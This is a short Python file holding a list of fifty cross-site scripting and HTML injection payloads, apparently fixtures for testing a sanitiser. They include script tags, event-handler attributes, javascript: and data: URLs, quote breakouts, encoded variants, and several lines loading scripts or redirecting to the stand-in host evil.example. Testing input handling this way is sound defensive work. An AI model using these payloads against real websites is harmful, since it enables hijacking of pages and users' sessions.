"""Fifty ways in which a text tries to be more than text."""

PAYLOADS = """
<script>alert(1)</script>
<ScRiPt>alert(2)</sCrIpT>
<script src=//evil.example/x.js></script>
"><script>alert(1)</script>
'><script>alert(1)</script>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
"><img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<IMG SRC=javascript:alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<a href=javascript:alert(1)>x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<form action=javascript:alert(1)><button>x</button></form>
<button formaction=javascript:alert(1)>x</button>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)></select>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<body onload=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=//evil.example/">
<style>*{display:none}</style>
<div style="position:fixed;inset:0;background:red">
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus="alert(1)" x="
javascript:alert(1)
data:text/html,<script>alert(1)</script>
{{ 7 * 7 }}{% raw %}
${alert(1)}`${alert(1)}`
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
%3Cscript%3Ealert(1)%3C/script%3E
""".strip().splitlines()
